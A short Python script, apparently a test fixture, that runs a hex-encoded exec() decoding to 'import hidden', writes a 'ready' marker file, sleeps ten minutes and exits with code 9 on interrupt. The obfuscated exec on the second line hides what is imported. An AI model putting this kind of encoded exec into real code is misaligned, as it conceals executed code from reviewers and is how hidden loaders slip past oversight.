import sys, time
exec(bytes.fromhex('696d706f72742068696464656e0a'))
open('ready', 'w').close()
try:
    time.sleep(600)
except KeyboardInterrupt:
    print('ended')
    sys.exit(9)
